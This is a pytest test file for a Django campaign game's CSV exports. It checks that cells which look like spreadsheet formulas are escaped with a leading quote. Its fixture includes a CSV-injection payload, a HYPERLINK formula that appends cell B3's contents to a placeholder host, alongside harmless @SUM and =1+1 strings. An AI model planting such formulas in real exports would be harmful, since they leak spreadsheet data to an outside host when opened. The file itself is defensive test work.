"""Issue 23, "spreadsheet formulas in CSVs": every CSV the product writes (the aces
leaderboard, a campaign's statistics) writes a text cell that a spreadsheet would run
as a formula (``= + - @``, tab, CR) with a ``'`` before it (the OWASP advice); numbers
stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from angels.csv_cells import csv_cell
from campaign import services as campaign_services
from careers.records import EngagementRecord, FlownRecord, KillRecord
from careers.services import engagement_apply, pilot_enlist
from roster.models import AircraftType
from roster.services import squadron_create
from rules.dice import ScriptedDice

HYPERLINK = '=HYPERLINK("http://a.invalid/?"&B3,"Open")&'


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.fixture
def fought(catalog, django_user_model):
    """A pilot ranked with a formula downs one named with another, in squadrons and a
    campaign named with formulas, flying a type renamed to one."""
    organiser = django_user_model.objects.create_user("orga", password="pw-orga-123")
    spitfire = AircraftType.objects.get(name="Supermarine Spitfire")
    spitfire.name = "@SUM(A1:A9)"
    spitfire.save()
    me109 = AircraftType.objects.get(name="Messerschmitt Bf 109")
    raf = squadron_create(name="+44 Squadron", nation="United Kingdom", side="allied",
                          aircraft_type=spitfire)  # fmt: skip
    jg = squadron_create(name="-JG 51", nation="Germany", side="axis", aircraft_type=me109)
    campaign = campaign_services.campaign_create(
        name="=1+1 Campaign", created_by=organiser, seed=3, squadrons=[raf, jg]
    )
    ace = pilot_enlist(squadron=raf, name="Bader", rank=HYPERLINK, quality="average",
                       quality_scale="air_force")  # fmt: skip
    victim = pilot_enlist(
        squadron=jg, name="\tMölders", quality="average", quality_scale="air_force"
    )
    record = EngagementRecord(
        mode="engine", battle_ref="B-1", campaign_turn=2, territory="allied",
        flown=(FlownRecord(pilot_id=ace.pk), FlownRecord(pilot_id=victim.pk, destroyed=True)),
        kills=(KillRecord(shooter_pilot_id=ace.pk, victim_pilot_id=victim.pk,
                          victim_aircraft="Messerschmitt Bf 109"),),
    )  # fmt: skip
    engagement_apply(source_key="k", result=record, campaign=campaign, dice=ScriptedDice([6] * 12))
    return campaign


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_aces_csv_writes_a_formula_rank_and_names_as_text(client, fought):
    rows = _rows(client.get("/aces.csv"))
    assert _formula_cells(rows) == []
    by_pilot = {r[1]: r for r in rows[1:]}
    assert f"'{HYPERLINK} Bader" in by_pilot
    row = by_pilot[f"'{HYPERLINK} Bader"]
    assert row[2] == "'+44 Squadron" and row[4] == "'@SUM(A1:A9)"
    assert row[7] == "1"  # the confirmed kill: a number, as before


def test_the_statistics_csv_writes_formula_names_as_text(client, fought):
    rows = _rows(client.get(f"/statistics/{fought.pk}/statistics.csv"))
    assert _formula_cells(rows) == []
    aircraft = [r[1] for r in rows if r[0] == "aircraft"]
    assert "'@SUM(A1:A9)" in aircraft


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_quoted_off_and_numbers_stay_numbers(start):
    assert csv_cell(f"{start}1+2") == f"'{start}1+2"
    assert csv_cell(-3) == -3 and csv_cell(-0.5) == -0.5
    assert csv_cell("Bader") == "Bader" and csv_cell("") == ""
